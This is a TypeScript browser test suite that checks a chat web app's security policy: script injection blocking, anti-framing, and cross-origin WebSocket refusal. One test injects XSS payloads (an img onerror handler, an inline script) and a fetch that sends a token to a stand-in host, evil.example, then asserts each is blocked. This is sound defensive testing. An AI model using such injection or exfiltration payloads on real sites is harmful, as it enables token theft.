import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newPerson } from './person.ts';
import { openStage, type Stage } from './stage.ts';

let stage: Stage;
/** A foreign page on another port: `localhost` makes it another host too. */
const elsewhere = createServer((_, response) => {
  response.setHeader('content-type', 'text/html').end(`<iframe src="${stage.origin}"></iframe>`);
});
beforeAll(async () => {
  stage = await openStage({ CHASQUI_CORS_ORIGINS: 'https://chat.example' });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
});
afterAll(async () => {
  elsewhere.closeAllConnections();
  await new Promise((resolve) => elsewhere.close(resolve));
  await stage?.[Symbol.asyncDispose]();
});

async function pageAt<T>(url: string, look: (page: Page) => Promise<T>): Promise<T> {
  const context = await stage.browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(url);
    return await look(page);
  } finally {
    await context.close();
  }
}

const port = () => (elsewhere.address() as AddressInfo).port;
const wsUrl = () => stage.cluster.running.connect[0]?.wsUrl ?? '';

function opensSocket(page: Page): Promise<boolean> {
  return page.evaluate(
    (url) =>
      new Promise<boolean>((resolve) => {
        const socket = new WebSocket(url);
        socket.onopen = () => resolve(true);
        socket.onclose = () => resolve(false);
      }),
    wsUrl(),
  );
}

describe('in a real browser', () => {
  it('the page works under its own policy: it opens its socket and breaks no rule', async () => {
    const ana = await newPerson(stage.browser, stage.origin, 'ana', { node: 1 });
    expect(ana.faults).toEqual([]);
    await ana.leave();
  });

  it('code and requests that got into the page by accident do nothing', async () => {
    const seen = await pageAt(stage.origin, (page) =>
      page.evaluate(async () => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned = 1"><p style="color:red">');
        const script = document.createElement('script');
        script.textContent = 'window.pwned = 1';
        document.body.append(script);
        const sent = await fetch('https://evil.example/?token=x').then(
          () => true,
          () => false,
        );
        await new Promise((resolve) => setTimeout(resolve, 500));
        return { pwned: 'pwned' in window, sent, violations: [...new Set(violations)].sort() };
      }),
    );
    expect(seen).toEqual({
      pwned: false,
      sent: false,
      violations: ['connect-src', 'script-src-attr', 'script-src-elem', 'style-src-attr'],
    });
  });

  it('nobody frames the page', async () => {
    const framed = await pageAt(`http://127.0.0.1:${port()}/`, async (page) => {
      await page.waitForLoadState('networkidle');
      return page.frames()[1]?.url();
    });
    expect(framed).toBe('chrome-error://chromewebdata/');
  });

  it('a page of another host opens no socket; one of the same host at another port may', async () => {
    expect(await pageAt(`http://localhost:${port()}/`, opensSocket)).toBe(false);
    expect(await pageAt(`http://127.0.0.1:${port()}/`, opensSocket)).toBe(true);
  });
});
